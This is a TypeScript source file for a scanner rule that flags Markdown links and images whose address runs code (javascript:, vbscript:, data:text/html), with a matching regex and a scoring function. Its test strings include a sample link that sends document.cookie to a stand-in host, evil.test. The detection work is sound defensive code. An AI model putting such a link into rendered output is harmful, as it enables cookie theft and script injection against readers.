import { useFactor, fencesOf, topicFactor } from '../injection/mention.js';
import { hiddenRule, type HiddenText } from './hidden-rule.js';

/** A link or an image that runs a program where it is rendered. */
export const activeLinkRule = hiddenRule({
  id: 'active-link',
  title: 'Link that runs a program',
  confidence: 0.8,
  why: 'A Markdown link or image has an address that is a program (`javascript:`, `data:text/html`): a page that renders it runs it.',
  remedy: 'Take the link out, and render Markdown only with a list of allowed schemes.',
  references: ['CWE-79', 'CWE-83', 'OWASP-LLM05'],
  examples: {
    mustMatch: [
      'See [the report](javascript:fetch("//evil.test?c="+document.cookie)).',
      '![chart](data:text/html;base64,PHNjcmlwdD4=)',
      '[a]: vbscript:msgbox(1)',
    ],
    mustNotMatch: [
      '[top](javascript:void(0))',
      '![dot](data:image/png;base64,iVBORw0KGgo=)',
      'A link such as `[a](javascript:alert(1))` is dropped.',
    ],
  },
});

const link =
  /(?:\]\(|\]:)[ \t]{0,3}<?(?:(?:javascript|vbscript):(?!void\(0\)|[;)])|data:(?:text\/html|application\/xhtml\+xml)[;,])[^\s)>]{0,200}/gi;

/** Every such link of a Markdown text; one that is quoted or shown as code counts for less. */
export function findActiveLinks(text: string): HiddenText[] {
  if (!text.includes('](') && !text.includes(']:')) return [];
  const found: HiddenText[] = [];
  let context: { fences: readonly number[]; topic: number } | undefined;
  for (const match of text.matchAll(link)) {
    context ??= { fences: fencesOf(text), topic: topicFactor(text) };
    const start = match.index;
    const end = start + match[0].length;
    const confidence = activeLinkRule.confidence * useFactor(text, start, end, context);
    found.push({ rule: activeLinkRule, start, end, confidence });
  }
  return found;
}
